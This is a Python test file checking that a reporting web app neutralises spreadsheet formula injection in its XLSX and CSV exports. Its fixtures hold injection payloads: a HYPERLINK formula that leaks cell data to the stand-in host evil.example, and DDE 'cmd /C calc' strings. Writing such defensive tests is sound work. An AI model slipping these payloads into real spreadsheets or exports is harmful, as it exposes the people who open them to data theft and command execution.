"""A formula a district types into its report reaches the coordinator's XLSX and CSV inert.

The district writes through tidtam.app.reporting (as the report page does), the coordinator
accepts it and downloads the compilation from the web app: openpyxl reads every such cell as a
string (never data_type 'f'), the CSV cell starts with a quote, and the counts stay numbers.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from models.directive import active_directives
from models.user import get_by_username
from tests.web.conftest import make_app
from tests.web.helpers import CLOCK, SLUG, signed_in
from tidtam.app import reporting
from tidtam.app.labels import labels
from tidtam.infra.db import session_scope

DISTRICT = "2706"
CENTER = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
PLACE = "+cmd|' /C calc'!A0"
OTHER = "@SUM(1+1)*cmd|' /C calc'!A0"
PHOTO_KINDS = ("tree-planting", "other")
# The files' headers are Thai words: back to their column keys.
KEY = {w["th"]: k for k, w in labels()["headers"].items() if isinstance(w, dict)}


def _session(key: str, kind: str, **fields) -> dict:
    counts = {"center-committee": 5, "volunteer-leaders": 5, "community": 8, "partners": 3,
              "cd-officials": 2}
    return {"key": key, "held_on": "2024-07-10", "center": CENTER, "place": PLACE, "kind": kind,
            "participants": counts, **fields}


def _jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, "JPEG")
    return out.getvalue()


def _report_with_formulas(engine, store) -> None:
    """District staff file, add photos and submit; the coordinator accepts."""
    raw = {"sessions": [_session("s1", "tree-planting"),
                        _session("s2", "other", kind_other=OTHER)],
           "outcomes": ["-1+2 ต้นไม้เพิ่มขึ้น"]}
    with session_scope(engine) as session:
        (directive,) = active_directives(session, "27")
        staff = get_by_username(session, f"staff-{DISTRICT}")
        view = reporting.save_draft(session, staff, DISTRICT, raw, directive=directive,
                                    expected_version=0, now=CLOCK)
        for key in ("s1", "s2"):
            reporting.add_photo(session, staff, DISTRICT, key, _jpeg(), f"{key}.jpg",
                                directive=directive, store=store, now=CLOCK)
        version = reporting.report_view(session, staff, DISTRICT, directive=directive).version
        view = reporting.submit_report(session, staff, DISTRICT, directive=directive,
                                       expected_version=version, now=CLOCK)
        reporting.accept_report(session, get_by_username(session, "coordinator"), DISTRICT,
                                directive=directive, expected_version=view.version, now=CLOCK)


def test_a_formula_typed_into_a_report_is_inert_in_xlsx_and_csv(any_engine):
    from fastapi.testclient import TestClient

    app = make_app(any_engine)
    _report_with_formulas(any_engine, app.state.photos)
    with TestClient(app) as client:
        signed_in(client, "coordinator")
        xlsx = client.get(f"/directives/{SLUG}/reports/compiled.xlsx")
        sessions_csv = client.get(f"/directives/{SLUG}/reports/compiled-sessions.csv")
    assert xlsx.status_code == 200, xlsx.text
    assert sessions_csv.status_code == 200, sessions_csv.text

    sheet = load_workbook(io.BytesIO(xlsx.content))["sessions"]
    header = [KEY.get(c.value, c.value) for c in sheet[1]]
    rows = [row for row in sheet.iter_rows(min_row=2) if row[0].value == DISTRICT]
    assert len(rows) == 2
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        for name in ("center", "place"):
            assert cells[name].data_type == "s", (name, cells[name].value)
        assert cells["center"].value == "'" + CENTER
        assert cells["place"].value == "'" + PLACE
        assert cells["total_participants"].data_type == "n"
        assert cells["total_participants"].value == 23
    other = dict(zip(header, rows[1], strict=True))
    assert other["kind_title_th"].value == "'" + OTHER
    assert other["kind_title_th"].data_type == "s"
    every = [c for row in load_workbook(io.BytesIO(xlsx.content)).worksheets
             for line in row.iter_rows() for c in line]
    assert not [c.coordinate for c in every if c.data_type == "f"]

    table = [{KEY.get(k, k): v for k, v in row.items()}
             for row in csv.DictReader(io.StringIO(sessions_csv.content.decode("utf-8-sig")))]
    mine = [r for r in table if r["district_code"] == DISTRICT]
    assert [r["center"] for r in mine] == ["'" + CENTER] * 2
    assert [r["place"] for r in mine] == ["'" + PLACE] * 2
    assert mine[1]["kind_title_th"] == "'" + OTHER
    assert [r["total_participants"] for r in mine] == ["23", "23"]
